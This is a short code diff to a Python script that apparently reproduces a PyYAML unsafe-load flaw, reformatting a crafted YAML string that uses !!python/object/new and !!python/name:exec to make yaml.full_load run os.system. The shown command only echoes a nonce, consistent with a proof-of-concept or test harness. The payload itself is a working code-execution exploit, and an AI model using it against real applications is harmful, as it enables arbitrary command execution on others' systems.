@@ -6,7 +6,5 @@ import yaml
 
 command = f"__import__('os').system('echo {os.environ['REPRODUCE_NONCE']}')"
 yaml.full_load(
-    "!!python/object/new:types.SimpleNamespace\n"
-    "state: {extend: !!python/name:exec }\n"
-    f'listitems: "{command}"\n'
+    f'!!python/object/new:types.SimpleNamespace\nstate: {{extend: !!python/name:exec }}\nlistitems: "{command}"\n'
 )
